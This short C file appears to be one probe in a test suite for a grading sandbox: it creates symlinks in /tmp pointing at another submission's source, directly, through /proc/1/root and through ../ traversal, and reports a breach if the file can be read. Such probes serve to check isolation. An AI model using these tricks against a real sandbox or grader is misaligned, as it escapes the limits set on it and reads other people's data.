/* Makes symbolic links to another grade's source and opens those. */
#define _GNU_SOURCE
#include "../../attack.h"

static void attack(void)
{
    static const char *const targets[] = {NEIGHBOUR, "/proc/1/root" NEIGHBOUR,
                                          "../../../../.." NEIGHBOUR};
    for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++) {
        unlink("/tmp/" PLANTED "-link");
        if (symlink(targets[i], "/tmp/" PLANTED "-link") == 0 &&
            file_tells("/tmp/" PLANTED "-link"))
            breach(targets[i]);
    }
}

ATTACK_THEN_NOTHING
